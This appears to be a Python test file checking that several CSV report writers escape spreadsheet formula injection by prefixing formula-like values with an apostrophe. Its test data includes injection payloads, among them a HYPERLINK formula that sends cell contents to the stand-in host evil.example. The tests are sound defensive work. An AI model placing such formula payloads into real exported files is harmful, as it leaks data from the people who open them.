"""The CSV reports people open in a spreadsheet never carry a live formula: text from outside
(an event's subject on the log, a row of an officer's import file) that begins like one is
written with a leading apostrophe; numbers and plain text stay as they are."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from ikm_cli.enterprise_csv import RowError, write_error_report
from ikm_cli.training import _write_refused
from ikmkit.audit.findings import Finding, Kind
from ikmkit.audit.report import write_findings_csv

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


def test_an_audit_finding_on_a_forged_events_subject(tmp_path: Path) -> None:
    findings = [
        Finding(Kind.TAMPERED, "ikm.registry.enterprise.v1", 2, 17, subject, 3, "e1", "T", subject)
        for subject in [*FORMULAS, "1234567890123"]
    ]
    path = tmp_path / "findings.csv"
    write_findings_csv(path, findings)
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    assert [r["subject"] for r in rows] == [*("'" + f for f in FORMULAS), "1234567890123"]
    assert [r["detail"] for r in rows] == [r["subject"] for r in rows]
    assert {(r["partition"], r["offset"], r["topic"]) for r in rows} == {
        ("2", "17", "ikm.registry.enterprise.v1")
    }


def test_the_rows_an_import_refused() -> None:
    out = io.StringIO()
    errors = [RowError(i + 1, f, "name", "required", f) for i, f in enumerate(FORMULAS)]
    write_error_report([*errors, RowError(9, "1234567890123", "nib", "nib", "ok -1")], out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [r[1] for r in rows[1:]] == [*("'" + f for f in FORMULAS), "1234567890123"]
    assert [r[4] for r in rows[1:]] == [*("'" + f for f in FORMULAS), "ok -1"]


def test_the_enrollments_a_course_refused(tmp_path: Path) -> None:
    path = tmp_path / "refused.csv"
    refused = [{"row": 1, "field": "name", "rule": "r", "message": f} for f in FORMULAS]
    _write_refused(path, refused)
    rows = list(csv.DictReader(path.open()))
    assert [r["message"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r["row"] for r in rows] == ["1"] * len(FORMULAS)
